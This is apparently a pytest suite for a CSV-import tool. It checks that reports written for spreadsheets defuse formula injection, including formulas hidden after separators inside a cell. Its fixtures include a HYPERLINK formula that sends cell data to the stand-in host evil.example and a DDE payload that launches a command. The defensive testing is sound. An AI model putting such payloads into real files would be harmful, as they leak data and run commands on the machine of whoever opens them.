"""Every CSV bridge writes for people is safe to open in a spreadsheet: no cell, and no part
of a cell after a `,` `;` or TAB (where a spreadsheet using that separator splits it), starts
a formula. Signed numbers stay as they are.

The attack: a sender's cells holding formulas after a `;`, quoted so that the sender's own
`;`-separated file keeps them in one cell, and the operator opening the reports in a
spreadsheet that splits on `;`.
"""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import pyarrow as pa
import pytest
from click.testing import CliRunner

from bridge.cli import main
from bridge.config import load
from bridge.display import defuse, defuse_cells
from bridge.engine.runner import run_pass
from tests.flowkit import IN, make_world

HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1;"fattura")'
DDE = "@SUM(1+1)*cmd|' /C calc'!A0"
#: Where a spreadsheet could start a formula: a cell's start, or after , ; TAB inside it.
STARTS = re.compile(r"(?:^|(?<=[,;\t]))[=@+\t\r-]")
SIGNED_NUMBER = re.compile(r"[+-][0-9][0-9.,]*")


def formulas(cell: str) -> list[str]:
    """The would-be formulas of a cell, a signed number running to its end excepted."""
    return [cell[m.start():] for m in STARTS.finditer(cell)
            if not SIGNED_NUMBER.fullmatch(cell[m.start():])]


def cells(text: str) -> list[str]:
    return [c for row in csv.reader(io.StringIO(text, newline="")) for c in row]


def test_the_quarantine_report_defuses_formulas_after_a_separator(tmp_path: Path) -> None:
    cfg = make_world(tmp_path)
    (tmp_path / "inbox" / "evil.csv").write_text(
        "codice;descrizione;prezzo;qty\n"
        f'A1;"x;{HYPERLINK.replace(chr(34), chr(34) * 2)}";1,00;"1;{DDE}"\n',
        encoding="utf-8")
    result = run_pass(load(cfg))
    assert [o.state for o in result.outcomes] == ["rejected"]
    report = (tmp_path / "quarantine" / "evil.csv.issues.csv").read_text(encoding="utf-8-sig")
    found = cells(report)
    assert any(HYPERLINK in c for c in found) and any(DDE in c for c in found)
    assert [c for c in found if formulas(c)] == []


def test_check_format_csv_defuses_every_cell(tmp_path: Path, runner: CliRunner) -> None:
    layout = tmp_path / "in.yaml"
    layout.write_text(IN, encoding="utf-8")
    evil = tmp_path / "evil.csv"
    evil.write_text("codice;descrizione;prezzo;qty\n"
                    f'A1;x;1,00;"{DDE}"\nA2;x;1,00;"1;{DDE}"\n', encoding="utf-8")
    result = runner.invoke(main, ["check", str(evil), "-t", str(layout), "--format", "csv"])
    assert result.exit_code == 1
    found = cells(result.output)
    assert sum(DDE in c for c in found) >= 4  # the values and the messages quoting them
    assert [c for c in found if formulas(c)] == []


@pytest.mark.parametrize(("cell", "defused"), [
    ("=1+1", "'=1+1"),
    ("x;=1+1", "x;'=1+1"),
    ("a,b;@c\t+d", "a,b;'@c\t'+d"),
    ("\t=x", "'\t'=x"),
    ("-12,50", "-12,50"),
    ("+39", "+39"),
    ("a;-3", "a;-3"),
    ("-5;=x", "'-5;'=x"),
    ("Via Roma 1, scala B", "Via Roma 1, scala B"),
    (None, ""),
])
def test_defuse(cell: str | None, defused: str) -> None:
    assert defuse(cell) == defused
    assert defuse_cells(pa.array([cell], pa.string())).to_pylist() == [defused]
    assert formulas(defused) == []
